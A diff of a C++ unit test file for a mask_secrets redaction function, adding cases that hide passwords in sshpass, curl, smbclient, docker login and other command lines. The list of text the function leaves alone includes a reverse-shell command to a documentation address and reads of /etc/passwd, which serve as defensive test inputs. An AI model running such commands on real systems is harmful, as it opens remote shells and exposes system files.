@@ -39,6 +39,20 @@ TEST(MaskSecrets, HidesWhatSomeProgramsTakeWithoutAName) {
   EXPECT_EQ(mask_secrets("redis-cli -a S3cr3t ping"), "redis-cli -a **** ping");
 }
 
+TEST(MaskSecrets, HidesPasswordsThatOtherProgramsShowedInCommandLines) {
+  EXPECT_EQ(mask_secrets("SSHPASS=S3cr3t sshpass -e ssh x"), "SSHPASS=**** sshpass -e ssh x");
+  EXPECT_EQ(mask_secrets("app dbpass=S3cr3t --bypass=x"), "app dbpass=**** --bypass=x");
+  EXPECT_EQ(mask_secrets("openssl rsa -passin pass:S3cr3t"), "openssl rsa -passin ****");
+  EXPECT_EQ(mask_secrets("curl -sSu me:S3cr3t x"), "curl -sSu me:**** x");
+  EXPECT_EQ(mask_secrets("curl --user=me:S3,cr;3t x"), "curl --user=me:**** x");
+  EXPECT_EQ(mask_secrets("curl --proxy-user me:S3cr3t x"), "curl --proxy-user me:**** x");
+  EXPECT_EQ(mask_secrets("smbclient //h/s -U me%S3cr3t"), "smbclient //h/s -U me%****");
+  EXPECT_EQ(mask_secrets("docker login -u me -p S3cr3t host"), "docker login -u me -p **** host");
+  EXPECT_EQ(mask_secrets("ldapsearch -x -w S3cr3t"), "ldapsearch -x -w ****");
+  EXPECT_EQ(mask_secrets("7z a -pS3cr3t x.7z"), "7z a -p**** x.7z");
+  EXPECT_EQ(mask_secrets("xfreerdp /u:me /p:S3cr3t"), "xfreerdp /u:me /p:****");
+}
+
 TEST(MaskSecrets, HidesHeadersKeysAndTokensByTheirShape) {
   EXPECT_EQ(mask_secrets("Authorization: Basic bWU6cHc="), "Authorization: ****");
   EXPECT_EQ(mask_secrets("-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----"),
@@ -47,11 +61,11 @@ TEST(MaskSecrets, HidesHeadersKeysAndTokensByTheirShape) {
 }
 
 TEST(MaskSecrets, LeavesOrdinaryTextAlone) {
-  for (const char* text :
-       {"/etc/passwd: root owns it", "cat /etc/passwd", "cat /etc/passwd-",
-        "bash -i >& /dev/tcp/203.0.113.9/4444", "PWD=/root OLDPWD=/var", R"({"user.password_state":"set"})",
-        "http://192.0.2.1:8080/a@b", "ssh -p 2222 host", "mysql -p app", "host.authorized_key",
-        "key.type: ssh-ed25519", "curl -u me https://x", "", "--password", "password="})
+  for (const char* text : {"/etc/passwd: root owns it", "cat /etc/passwd", "cat /etc/passwd-",
+                           "bash -i >& /dev/tcp/203.0.113.9/4444", "PWD=/root OLDPWD=/var",
+                           R"({"user.password_state":"set"})", "http://192.0.2.1:8080/a@b",
+                           "ssh -p 2222 host", "mysql -p app", "host.authorized_key", "key.type: ssh-ed25519",
+                           "curl -u me https://x", "", "curl --user-agent a:b", "--password", "password="})
     EXPECT_EQ(mask_secrets(text), text);
 }
 
